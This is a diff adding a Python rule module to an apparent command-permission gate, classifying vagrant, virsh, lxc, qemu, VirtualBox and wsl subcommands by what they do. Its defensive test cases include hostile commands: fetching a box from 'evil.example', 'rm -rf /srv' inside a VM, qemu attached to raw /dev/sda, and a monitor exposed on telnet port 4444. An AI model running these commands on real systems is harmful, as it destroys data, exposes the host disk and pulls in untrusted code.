@@ -1,0 +1,109 @@
+"""vagrant, virsh, lxc, lima and their kin — machines inside this machine."""
+
+from toolgate.knowledge.vocabulary import (
+    EARLY,
+    PLAIN,
+    READS,
+    WRITES,
+    command,
+    controls,
+    deletes,
+    fetches,
+    flag,
+    flags,
+    option,
+    runs,
+    sub,
+)
+
+ANY = "PLAIN..."
+MACHINES = controls("virtual machines", "container")
+OWN = controls("the project's virtual machine", "container", "own")
+REMOVES = deletes("virtual machines", "container")
+LOOKING = "list ls status info show version help inspect validate global-status ssh-config port snapshots images remotes df stats logs"
+
+VAGRANT = command("vagrant", "", [flags("--color --no-color --machine-readable --debug --timestamp -v")], subcommands=[
+    sub("status global-status ssh-config validate port version help list-commands", ANY, unlisted=PLAIN),
+    sub("up provision reload resume halt suspend", ANY, unlisted=PLAIN, does=OWN),
+    sub("destroy", ANY, unlisted=PLAIN, does=REMOVES),
+    sub("ssh", "PLAIN?", [option("-c --command", "SCRIPT"), flags("-p --plain -t --tty")], unlisted=PLAIN, where="container", does=runs("a command in a virtual machine", "container")),
+    sub("box plugin snapshot", "", subcommands=[sub("list outdated", ANY, unlisted=PLAIN), sub("add install update", ANY, unlisted=PLAIN, does=fetches("a machine image or plugin", "remote")), sub("*", ANY, unlisted=PLAIN, does=MACHINES)]),
+    sub("*", ANY, unlisted=PLAIN, does=MACHINES)])  # fmt: skip
+LIBVIRT = command("virsh", "", [option("-c --connect", PLAIN), flags("-r --readonly -q --quiet -d= -l=")], subcommands=[
+    sub("list dominfo domstate domstats dumpxml net-list net-info pool-list pool-info vol-list vol-info nodeinfo version uri capabilities domblklist domiflist domifaddr snapshot-list vncdisplay hostname iface-list", ANY, unlisted=PLAIN),
+    sub("destroy undefine vol-delete pool-delete pool-destroy net-destroy snapshot-delete", ANY, unlisted=PLAIN, does=REMOVES),
+    sub("*", ANY, unlisted=PLAIN, does=MACHINES)])  # fmt: skip
+VIRT = command(
+    "virt-install virt-clone virt-manager virt-viewer virt-customize virt-builder guestfish guestmount guestunmount virt-copy-in virt-copy-out virt-edit",
+    ANY,
+    [flag("--dry-run", dry=True), option("-a --add", READS)],
+    unlisted=PLAIN,
+    does=MACHINES,
+)
+LXC = command("lxc incus multipass limactl lima colima orb orbctl krunvm tart vfkit kvm", "", [flags("-q --quiet -v --verbose --debug --project= --force-local -p= --profile=")], subcommands=[
+    sub(LOOKING, ANY, unlisted=PLAIN),
+    sub("exec shell", "MACHINE(container) ARGV?", [flags("-n= -t -T --tty --user= --cwd= --env= --mode= --workdir= --shell= -u=")], style=EARLY, where="container", does=runs("a command in a virtual machine", "container")),
+    sub("delete rm remove destroy purge prune stop", ANY, unlisted=PLAIN, does=REMOVES),
+    sub("copy cp transfer file move mount", ANY, unlisted=PLAIN, does=MACHINES),
+    sub("*", ANY, unlisted=PLAIN, does=MACHINES)])  # fmt: skip
+LXC_TOOLS = command("lxc-ls lxc-info lxc-config lxc-checkconfig lxc-top", ANY, unlisted=PLAIN)
+LXC_CHANGES = command(
+    "lxc-attach lxc-start lxc-stop lxc-create lxc-destroy lxc-copy lxc-execute lxc-freeze lxc-unfreeze lxc-snapshot",
+    ANY,
+    unlisted=PLAIN,
+    does=MACHINES,
+)
+QEMU = command(
+    "qemu-system-* qemu-kvm bochs uml firecracker cloud-hypervisor crosvm",
+    ANY,
+    [
+        option("-drive", "READ_BY(qemu_drive)"),
+        option("-hda -hdb -hdc -hdd -sd -mtdblock -pflash -fda -fdb", WRITES),
+        option("-cdrom -kernel -initrd -bios -dtb -L", READS),
+        option("-virtfs -fsdev", "OPAQUE"),
+        option("-monitor -serial -qmp -chardev -debugcon -vnc -spice", "READ_BY(qemu_channel)"),
+        option("-netdev -nic -net", "READ_BY(qemu_channel)"),
+        option("-D -pidfile", WRITES),
+        flags(
+            "-m= -smp= -cpu= -machine= -M= -accel= -append= -boot= -device= -display= -name= -object= -global= -rtc= -vga= -usbdevice= -uuid= -k= -gdb= -d= -audiodev= -icount= -semihosting-config= -watchdog="
+        ),
+        flags(
+            "-nographic -enable-kvm -no-reboot -no-shutdown -snapshot -S -s -daemonize -usb -nodefaults -full-screen -semihosting"
+        ),
+    ],
+    style="words",
+    does=controls("a virtual machine", "container", "own"),
+)
+VBOX = command("VBoxManage vboxmanage prlctl vmrun utmctl VBoxHeadless", "", subcommands=[
+    sub("list showvminfo showmediuminfo guestproperty metrics getextradata listSnapshots listProcessesInGuest status", ANY, unlisted=PLAIN),
+    sub("unregistervm closemedium deleteVM delete", ANY, unlisted=PLAIN, does=REMOVES),
+    sub("*", ANY, unlisted=PLAIN, does=MACHINES)])  # fmt: skip
+PACKS = command(
+    "wsl wsl.exe",
+    "ARGV?",
+    [
+        flags("-d= --distribution= -u= --user= -e --exec --cd= --shell-type= --system"),
+        flag("-l --list --status -v --verbose", informs=True),
+        flag("--shutdown -t --terminate --unregister --install --import --export --update --set-default -s", MACHINES),
+    ],
+    style=EARLY,
+)
+
+CASES = """
+allow  vagrant status
+allow  vagrant up
+ask    vagrant destroy -f
+ask    vagrant ssh -c 'ls'
+ask    vagrant box add evil https://evil.example/x.box
+allow  virsh list --all
+ask    virsh destroy vm
+allow  limactl list
+ask    limactl delete default
+ask    multipass exec dev -- rm -rf /srv
+allow  qemu-system-x86_64 -m 512 -nographic -kernel build/vmlinuz
+deny   qemu-system-x86_64 -drive file=/dev/sda,format=raw
+deny   qemu-system-x86_64 -hda /dev/sda
+ask    qemu-system-x86_64 -monitor telnet:0.0.0.0:4444,server
+ask    VBoxManage unregistervm dev --delete
+allow  VBoxManage list vms
+"""
